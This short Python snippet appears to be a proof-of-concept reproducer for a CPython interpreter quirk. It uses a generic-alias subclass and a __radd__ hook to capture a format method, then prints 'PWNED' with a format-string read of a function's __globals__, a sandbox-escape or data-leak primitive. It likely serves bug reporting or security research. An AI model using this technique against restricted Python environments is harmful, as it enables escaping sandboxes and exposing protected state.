class Alias(type(list[int])):
    format = 1
got = []
class T:
    def __radd__(self, other):
        got.append(other)
        return other
def f():
    pass
alias = Alias(str, ())
try:
    alias.format += T()
finally:
    print("PWNED", got[0]("{0.__globals__}", f))
